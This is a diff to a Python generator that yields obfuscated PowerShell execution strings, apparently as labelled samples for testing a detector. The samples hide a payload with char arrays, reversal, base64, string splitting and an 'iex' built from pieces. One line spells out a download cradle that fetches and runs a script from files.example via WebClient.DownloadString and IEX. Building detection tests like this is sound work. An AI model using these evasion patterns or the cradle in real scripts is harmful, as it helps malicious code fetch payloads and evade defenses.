@@ -93,7 +93,7 @@ def powershell():
         "".join("{%d}" % order.index(i) for i in range(len(p))), ",".join(pq(p[i]) for i in order)), True
     yield "ps_char_join", "iex (-join[char[]](%s))" % ",".join(str(ord(c)) for c in PS), True
     yield "ps_char_pipe", "(%s|%%{[char]$_}) -join ''|iex" % ",".join(str(ord(c)) for c in PS), True
-    yield "ps_replace", "('%s' -replace 'Zq9','')|.('i'+'ex')" % "Zq9".join(cut(PS.replace("'", "''"), 3, 5)), True
+    yield "ps_replace", "(%s -replace 'Zq9','')|.('i'+'ex')" % pq("Zq9".join(cut(PS, 3, 5))), True
     yield "ps_reverse", "$s=%s;iex ($s[-1..-($s.Length)] -join '')" % pq(PS[::-1]), True
     yield "ps_base64", "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String(%s)))" % pq(b64(PS)), True
     yield "ps_comspec", "(%s)|&($eNv:CoMSpEC[4,24,25]-jOin'')" % plus(PS, pq), True
@@ -101,7 +101,7 @@ def powershell():
         PS.replace("'", "k9Q").replace("$", "Zw1")), True
     yield "ps_variables", "$a='Net.';$b='Web'+'Cli';$c='ent';$d=$a+$b+$c;$e='Downl'+'oadStr'+'ing';$u='http://files'+'.example/in/a.ps1';" \
         "&('I'+'EX') (&('New'+'-Object') $d).$e", True
-    yield "ps_split", "iex ('%s'.split('~') -join '')" % "~".join(cut(PS.replace("'", "''"), 2, 5)), True
+    yield "ps_split", "iex (%s.split('~') -join '')" % pq("~".join(cut(PS, 2, 5))), True
 
 
 def batch():
